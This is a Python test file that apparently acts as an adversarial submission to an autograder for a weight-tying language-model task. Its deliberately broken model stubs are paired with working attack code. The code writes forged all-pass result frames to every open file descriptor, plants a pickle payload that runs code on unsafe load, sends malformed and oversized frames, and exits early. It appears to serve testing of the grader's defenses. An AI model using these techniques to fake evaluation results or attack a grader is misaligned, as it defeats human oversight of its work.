# expect: attack
# why: writes forged evidence frames on every open fd > 2 before the experiments run (one record per experiment name, all facts "True"), plus a pickle that would create /tmp/wtcal_pwned_judge if the judge loaded it unsafely, a malformed frame and an oversized header; then os._exit(0).
import io
import json
import os
import re
import struct
import sys

import torch
import torch.nn as nn


# Stub classes: wrong on purpose, so that any point this file earns is a grader defect.
class TiedEmbeddingLM(nn.Module):
    def __init__(self, vocab_size, embed_dim=128):
        super().__init__()
        self.vocab_size = vocab_size

    def forward(self, input_ids):
        return torch.zeros(*input_ids.shape, self.vocab_size)


class MiniGPTWithWeightTying(nn.Module):
    def __init__(self, vocab_size, block_size, embed_dim=128, num_layers=4, num_heads=4,
                 hidden_dim=512, dropout=0.0):
        super().__init__()
        self.vocab_size = vocab_size

    def forward(self, input_ids):
        return torch.zeros(*input_ids.shape, self.vocab_size)

    def loss(self, input_ids, targets=None):
        return torch.zeros(())

    def generate(self, input_ids, max_new_tokens):
        return torch.cat([input_ids, torch.zeros(input_ids.shape[0], max_new_tokens, dtype=torch.long)], 1)


class _Pwn:
    """Unpickling this (torch.load with weights_only=False) would create a marker file in the judge."""

    def __reduce__(self):
        return (open, ("/tmp/wtcal_pwned_judge", "w"))


def _pickled(obj):
    buf = io.BytesIO()
    torch.save(obj, buf)
    data = buf.getvalue()
    return struct.pack(">Q", len(data)) + data


def _frame(obj):
    """A frame in the channel's format, written by hand: the JSON, then a safetensors file with no tensors."""
    text = json.dumps(obj).encode()
    blob = struct.pack("<Q", len(text)) + text + struct.pack("<Q", 2) + b"{}"
    return struct.pack(">Q", len(blob)) + blob


def _experiment_names():
    names = ["__load__", "__done__"]
    module = sys.modules.get("autograder.graders.weight_tying.runner.experiments")
    if module is not None and isinstance(getattr(module, "EXPERIMENTS", None), dict):
        names += list(module.EXPERIMENTS)
    else:
        names += ["lm_identity", "lm_reload", "lm_float64", "lm_shapes", "lm_grad", "gpt_identity", "gpt_reload",
                  "gpt_float64", "gpt_shapes", "gpt_heads", "gpt_counts", "gpt_dropout", "gpt_grad", "gpt_loss",
                  "gpt_generate"]
    return names


_TRUE_FACTS = {"head_is_embed": True, "same_data_ptr": True, "passed": True, "ok": True, "score": 100,
               "n_param_objects": 1, "embed_in_parameters": True, "head_is_pos": False, "head_has_bias": False}
_frames = [_pickled({"name": "lm_identity", "record": {"payload": _Pwn()}})]
for _name in _experiment_names():
    record = {"defined": ["TiedEmbeddingLM", "MiniGPTWithWeightTying"], "errors": []} if _name == "__load__" else (
        {} if _name == "__done__" else dict(_TRUE_FACTS))
    _frames.append(_frame({"name": _name, "record": record}))
_frames.append(struct.pack(">Q", 40) + os.urandom(40))  # malformed
_frames.append(struct.pack(">Q", 1 << 40))  # oversized header, nothing after it

_fds = set()
if len(sys.argv) > 1 and sys.argv[1].isdigit():
    _fds.add(int(sys.argv[1]))
try:
    _fds |= {int(fd) for fd in os.listdir("/proc/self/fd")}
except OSError:
    _fds |= set(range(3, 64))
for _fd in sorted(fd for fd in _fds if fd > 2):
    try:
        for _data in _frames:
            os.write(_fd, _data)
    except OSError:
        pass
sys.stdout.flush()
os._exit(0)
